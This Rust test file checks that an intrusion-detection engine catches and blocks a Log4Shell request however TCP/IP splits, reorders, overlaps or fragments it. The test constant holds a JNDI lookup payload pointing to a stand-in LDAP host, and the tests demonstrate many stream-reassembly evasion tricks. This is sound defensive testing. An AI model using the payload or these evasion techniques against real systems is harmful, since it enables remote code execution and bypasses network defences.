//! The exploit of the demo, hidden in every way that TCP and IP allow: cut at each byte, out of order, overlapping,
//! over the end of the sequence numbers, in fragments. It must always be seen, and the flow cut.
#![allow(clippy::unwrap_used, reason = "a test that cannot go on says so by a panic")]

mod support;

use std::net::IpAddr;
use std::sync::Arc;

use proptest::prelude::*;
use signatures::{
    Action, Classification, EveAlert, FlowVerdict, Inspector, Limits, LinkType, RuleSet, Variables,
};
use support::{ACK, CLIENT, Conversation, PSH, SERVER};

const REQUEST: &[u8] =
    b"GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${JnDi:ldap://198.51.100.7:1389/a}\r\n\r\n";

fn rules() -> Arc<RuleSet> {
    let text = std::fs::read_to_string(support::cases().join("log4shell.rules")).unwrap();
    let classes = "config classification: attempted-admin,Attempted Administrator Privilege Gain,1";
    let (classes, _) = Classification::parse(classes, "classification.config");
    let (rules, refused) = RuleSet::load(&text, "log4shell.rules", &Variables::usual(), &classes);
    assert_eq!(refused, []);
    Arc::new(rules)
}

/// Numbers of the packets that alert, and the verdict at the end.
fn seen(rules: &Arc<RuleSet>, frames: &[Vec<u8>]) -> (Vec<u64>, FlowVerdict) {
    let mut inspector = Inspector::new(Arc::clone(rules), Limits::live());
    let (mut packets, mut verdict) = (Vec::new(), FlowVerdict::Continue);
    for (n, frame) in frames.iter().enumerate() {
        let judgement = inspector.packet(support::at(n), LinkType::Ethernet, frame);
        packets.extend(judgement.alerts.iter().map(|alert| alert.packet_number));
        verdict = judgement.verdict;
    }
    (packets, verdict)
}

fn conversation() -> Conversation {
    Conversation::open(CLIENT, SERVER, [u32::MAX - 40, 77])
}

#[test]
fn the_alert_says_all() {
    let mut talk = conversation();
    talk.client(REQUEST);
    let mut events = Vec::new();
    let capture = support::pcap(&talk.frames);
    signatures::inspect_capture(&capture[..], "log4shell.pcap", rules(), Limits::default(), &mut |alert| {
        events.push(serde_json::to_value(&alert).unwrap());
    })
    .unwrap();
    let flow_id = events[0]["flow_id"].clone();
    let wanted = serde_json::json!([{
        "timestamp": "2023-11-14T22:13:20.003000+0000", "flow_id": flow_id, "pcap_cnt": 4, "event_type": "alert",
        "src_ip": "198.51.100.7", "src_port": 40000, "dest_ip": "10.2.0.80", "dest_port": 80, "proto": "TCP",
        "direction": "to_server",
        "alert": {
            "action": "blocked", "gid": 1, "signature_id": 9_000_001, "rev": 1,
            "signature": "Log4Shell: JNDI lookup in a request",
            "category": "Attempted Administrator Privilege Gain", "severity": 1,
            "metadata": { "attack_target": ["Server"], "signature_severity": ["Critical"] },
        },
    }]);
    assert_eq!(serde_json::Value::from(events), wanted);
}

#[test]
fn the_excerpt_is_what_matched() {
    let mut talk = conversation();
    talk.client(REQUEST);
    let mut inspector = Inspector::new(rules(), Limits::default());
    let frames = &talk.frames;
    for (n, frame) in frames[..3].iter().enumerate() {
        assert!(inspector.packet(support::at(n), LinkType::Ethernet, frame).alerts.is_empty());
    }
    let judgement = inspector.packet(support::at(3), LinkType::Ethernet, &frames[3]);
    let alert = &judgement.alerts[0];
    assert_eq!(alert.excerpt.to_string(), "${JnDi:ldap://");
    assert_eq!((alert.rule.action, alert.rule.line, alert.blocked), (Action::Drop, 2, true));
    assert_eq!(EveAlert::from(alert).alert.action, "blocked");
    let empty = support::tcp(CLIENT, SERVER, talk.next[0], talk.next[1], ACK, b"");
    assert_eq!(inspector.packet(support::at(4), LinkType::Ethernet, &empty).verdict, FlowVerdict::Dropped);
}

#[test]
fn split_at_each_byte_in_order_and_swapped() {
    let rules = rules();
    for at in 1..REQUEST.len() {
        let (head, tail) = REQUEST.split_at(at);
        let mut talk = conversation();
        talk.client(head).client(tail);
        let (packets, verdict) = seen(&rules, &talk.frames);
        assert_eq!((packets.len(), verdict), (1, FlowVerdict::Dropped), "in order, {at}");

        let mut talk = conversation();
        talk.piece(i64::try_from(at).unwrap(), tail).piece(0, head);
        let (packets, verdict) = seen(&rules, &talk.frames);
        assert_eq!((packets, verdict), (vec![5], FlowVerdict::Dropped), "swapped, {at}");
    }
}

#[test]
fn over_ipv6_midstream_and_one_sided() {
    let rules_any = std::fs::read_to_string(support::cases().join("log4shell.rules")).unwrap();
    let variables = Variables::with([("HOME_NET", "[10.0.0.0/8,2001:db8::/32]")]);
    let (rules, _) = RuleSet::load(&rules_any, "log4shell.rules", &variables, &Classification::default());
    let rules = Arc::new(rules);
    let client: (IpAddr, u16) = ("2001:db8:1::7".parse().unwrap(), 40_000);
    let server: (IpAddr, u16) = ("2001:db8:2::80".parse().unwrap(), 80);
    let mut talk = Conversation::open(client, server, [1, 2]);
    talk.client(REQUEST);
    assert_eq!(seen(&rules, &talk.frames).0, [4], "all of it");
    assert_eq!(seen(&rules, &talk.frames[3..]).0, [1], "from the middle");
    let one_sided = [talk.frames[0].clone(), talk.frames[2].clone(), talk.frames[3].clone()];
    assert_eq!(seen(&rules, &one_sided).0, [3], "the client's side only");
}

#[test]
fn in_ip_fragments() {
    let rules = rules();
    let mut talk = conversation();
    talk.client(REQUEST);
    let whole = talk.frames.pop().unwrap();
    for at in (8..whole.len() - 34).step_by(8) {
        let piece = |from: usize, to: usize, more: bool| {
            let mut frame = whole[..34].to_vec();
            let total = u16::try_from(20 + to - from).unwrap().to_be_bytes();
            frame[16..18].copy_from_slice(&total);
            let field = u16::try_from(from / 8).unwrap() | if more { 0x2000 } else { 0 };
            frame[20..22].copy_from_slice(&field.to_be_bytes());
            frame.extend_from_slice(&whole[34 + from..34 + to]);
            frame
        };
        let end = whole.len() - 34;
        let mut frames = talk.frames.clone();
        frames.extend([piece(at, end, false), piece(0, at, true)]);
        assert_eq!(seen(&rules, &frames).0, [5], "{at}");
    }
}

/// A server's reset that no receiver would believe, or the client's FIN with bytes still to come, hides nothing.
#[test]
fn resets_and_fins_in_between_hide_nothing() {
    let rules = rules();
    for flags in [support::RST, support::RST | ACK, support::FIN | ACK] {
        for shift in [0_u32, 1, 5000, 2_000_000_000] {
            let mut talk = conversation();
            talk.client(&REQUEST[..60]);
            let at = talk.next[0].wrapping_add(shift);
            talk.frames.push(support::tcp(CLIENT, SERVER, at, talk.next[1], flags, b""));
            talk.client(&REQUEST[60..]);
            assert_eq!(seen(&rules, &talk.frames).0, [6], "{flags} {shift}");
        }
    }
}

/// The same ends connect again without an end of the first connection having been seen, near and far in the sequence
/// numbers.
#[test]
fn a_new_connection_of_the_same_ends_is_read() {
    let rules = rules();
    for shift in [1_000, 500_000, 2_000_000_000] {
        let mut talk = Conversation::open(CLIENT, SERVER, [1, 2]);
        talk.client(b"GET / HTTP/1.1\r\n\r\n");
        let mut again = Conversation::open(CLIENT, SERVER, [1 + shift, 99]);
        again.client(&REQUEST[..60]).client(&REQUEST[60..]);
        let one_sided = talk.frames.iter().chain(&again.frames).enumerate();
        let frames: Vec<_> =
            one_sided.filter(|(n, _)| !matches!(n, 1 | 5)).map(|(_, frame)| frame.clone()).collect();
        assert_eq!(seen(&rules, &frames).0, [7], "{shift}");
    }
}

/// Beginnings and bytes that belong to no connection, sent between those that do, hide nothing.
#[test]
fn misleading_beginnings_and_bytes_hide_nothing() {
    let rules = rules();
    for shift in [5_u32, 100_000, 3_000_000, 2_000_000_000] {
        let mut talk = conversation();
        for chunk in REQUEST.chunks(20) {
            talk.client(chunk);
            let at = talk.next[0].wrapping_sub(shift);
            talk.frames.push(support::tcp(CLIENT, SERVER, at, 0, support::SYN, b""));
            let far = talk.next[0].wrapping_add(shift.max(3_000_000));
            talk.frames.push(support::tcp(CLIENT, SERVER, far, talk.next[1], ACK, b"zz"));
        }
        assert_eq!(seen(&rules, &talk.frames).0.len(), 1, "{shift}");
    }
}

#[test]
fn a_full_flow_table_forgets_the_oldest_and_counts() {
    let limits = Limits { flows: 4, ..Limits::live() };
    let mut inspector = Inspector::new(rules(), limits);
    for port in 0..10 {
        let talk = Conversation::open((CLIENT.0, 2000 + port), SERVER, [1, 2]);
        for frame in &talk.frames {
            inspector.packet(support::at(usize::from(port)), LinkType::Ethernet, frame);
        }
    }
    let counters = inspector.counters();
    assert_eq!((counters.flows, counters.flows_evicted, counters.packets), (4, 6, 30));
}

#[test]
fn full_stream_memory_sheds_the_oldest_and_counts() {
    let limits = Limits { stream_bytes: 20_000, ..Limits::live() };
    let mut inspector = Inspector::new(rules(), limits);
    for port in 0..50 {
        let mut talk = Conversation::open((CLIENT.0, 2000 + port), SERVER, [1, 2]);
        talk.client(&[b'x'; 1400]);
        for frame in &talk.frames {
            inspector.packet(support::at(usize::from(port)), LinkType::Ethernet, frame);
        }
        assert!(inspector.counters().stream_bytes <= 20_000);
    }
    assert!(inspector.counters().streams_shed >= 30, "{:?}", inspector.counters());
}

#[test]
fn idle_flows_are_forgotten_by_the_time_of_packets() {
    let mut inspector = Inspector::new(rules(), Limits::live());
    let mut talk = conversation();
    talk.client(&REQUEST[..60]);
    for frame in &talk.frames {
        inspector.packet(support::at(0), LinkType::Ethernet, frame);
    }
    let later = model::Timestamp(support::at(0).0 + 3_600_000_000);
    let other = support::udp(CLIENT, SERVER, b"x");
    inspector.packet(later, LinkType::Ethernet, &other);
    assert_eq!(inspector.counters().flows, 1);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 150, failure_persistence: None, ..ProptestConfig::default() })]

    /// Any pieces in any order, equal bytes where they overlap, then the whole again: seen exactly once.
    #[test]
    fn any_pieces_in_any_order(
        pieces in proptest::collection::vec((0..REQUEST.len(), 1_usize..40), 0..20),
        isn in any::<u32>(),
    ) {
        let mut talk = Conversation::open(CLIENT, SERVER, [isn, 9]);
        for (from, length) in pieces {
            let to = (from + length).min(REQUEST.len());
            talk.piece(i64::try_from(from).unwrap(), &REQUEST[from..to]);
        }
        talk.piece(0, REQUEST);
        let (packets, verdict) = seen(&rules(), &talk.frames);
        prop_assert_eq!((packets.len(), verdict), (1, FlowVerdict::Dropped));
    }

    /// The first copy counts: garbage sent later over the same places changes nothing.
    #[test]
    fn garbage_over_bytes_that_came_first(at in 1..REQUEST.len(), garbage in any::<u8>()) {
        let mut talk = conversation();
        let (head, tail) = REQUEST.split_at(at);
        talk.piece(i64::try_from(at).unwrap(), tail);
        talk.piece(i64::try_from(at).unwrap(), &vec![garbage; tail.len()]);
        talk.piece(0, head);
        let (packets, _) = seen(&rules(), &talk.frames);
        prop_assert_eq!(packets, vec![6]);
    }

    /// Much harmless traffic before and between, in other flows and this one.
    #[test]
    fn between_other_bytes(before in 0_usize..20_000, step in 1_usize..1400) {
        let mut talk = conversation();
        for chunk in vec![b'$'; before].chunks(1400) {
            talk.client(chunk);
            talk.frames.push(support::udp(CLIENT, SERVER, b"${jndi:"));
        }
        for chunk in REQUEST.chunks(step) {
            talk.client(chunk);
        }
        talk.frames.push(support::tcp(CLIENT, SERVER, talk.next[0], talk.next[1], PSH | ACK, b""));
        let (packets, verdict) = seen(&rules(), &talk.frames);
        prop_assert_eq!((packets.len(), verdict), (1, FlowVerdict::Dropped));
    }
}
